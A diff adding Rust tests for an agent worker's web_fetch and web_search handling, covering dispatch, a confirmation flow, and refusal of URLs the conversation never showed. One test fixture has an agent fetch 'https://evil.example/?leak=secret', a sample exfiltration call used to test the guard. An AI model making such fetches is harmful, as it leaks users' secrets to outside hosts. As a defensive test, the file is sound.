@@ -406,3 +406,73 @@ fn a_dream_sessions_memory_tool_is_run_by_the_worker_and_only_there() {
     // Any other session's `memory` custom tool stays the client's to answer.
     assert_eq!(classify(&dream(false), "memory"), ToolClass::Custom);
 }
+
+fn web_agent() -> Value {
+    json!({
+        "model": { "id": "claude-sonnet-4-5" },
+        "tools": [{ "type": "agent_toolset_20260401",
+                    "default_config": { "enabled": false, "permission_policy": { "type": "always_allow" } },
+                    "configs": [
+                        { "name": "web_fetch", "enabled": true, "permission_policy": { "type": "always_allow" } },
+                        { "name": "web_search", "enabled": true, "permission_policy": { "type": "always_ask" } }
+                    ] }]
+    })
+}
+
+#[test]
+fn web_tools_are_offered_and_run_by_the_worker_not_the_hands() {
+    let agent = web_agent();
+    let names: Vec<String> = tool_specs(&agent).into_iter().map(|t| t.name).collect();
+    assert_eq!(names, ["web_fetch", "web_search"], "the disabled sandbox tools are not offered");
+    assert_eq!(classify(&agent, "web_search"), ToolClass::Web { tool: WebTool::Search, policy: "always_ask".into() });
+    let mut fetch = builtin_tool_use("web_fetch", json!({ "url": "https://example.com/a" }), "always_allow");
+    fetch["id"] = json!("t1");
+    let events = vec![
+        user("summarize https://example.com/a please"),
+        json!({"type":"session.status_running"}),
+        fetch,
+        json!({"type":"span.model_request_end"}),
+    ];
+    let Decision::CallRemote { calls, .. } = decide(&agent, &history(&events)) else { panic!() };
+    assert_eq!(calls.len(), 1);
+    assert_eq!(calls[0].target, RemoteTarget::Web(WebTool::Fetch));
+    assert_eq!(calls[0].kind(), EventType::AgentToolUse);
+}
+
+#[test]
+fn a_url_the_conversation_never_showed_is_refused_before_anything_goes_out() {
+    let mut fetch =
+        builtin_tool_use("web_fetch", json!({ "url": "https://evil.example/?leak=secret" }), "always_allow");
+    fetch["id"] = json!("t1");
+    let events = vec![
+        user("summarize https://example.com/a please"),
+        json!({"type":"session.status_running"}),
+        fetch,
+        json!({"type":"span.model_request_end"}),
+    ];
+    let Decision::CallModel { before, .. } = decide(&web_agent(), &history(&events)) else { panic!() };
+    let result = &before[0].body;
+    assert_eq!((result["type"].as_str(), result["tool_use_id"].as_str()), (Some("agent.tool_result"), Some("t1")));
+    assert_eq!(result["is_error"], true);
+    let text = result["content"][0]["text"].as_str().unwrap();
+    assert!(text.contains("has not appeared in this conversation") && !text.contains("secret"), "{text}");
+}
+
+#[test]
+fn a_web_search_that_asks_waits_for_the_confirmation_then_runs() {
+    let mut search = builtin_tool_use("web_search", json!({ "query": "rust" }), "always_ask");
+    search["id"] = json!("t1");
+    let mut events = vec![
+        user("search"),
+        json!({"type":"session.status_running"}),
+        search,
+        json!({"type":"span.model_request_end"}),
+    ];
+    let Decision::Idle { events: idle_events } = decide(&web_agent(), &history(&events)) else { panic!() };
+    assert_eq!(idle_events[0].body["stop_reason"], json!({ "type": "requires_action", "event_ids": ["t1"] }));
+    events.extend(bodies(&idle_events));
+    events.push(json!({"type":"user.tool_confirmation","tool_use_id":"t1","result":"allow"}));
+    let Decision::CallRemote { calls, .. } = decide(&web_agent(), &history(&events)) else { panic!() };
+    assert_eq!(calls[0].target, RemoteTarget::Web(WebTool::Search));
+    assert!(calls[0].released_now);
+}
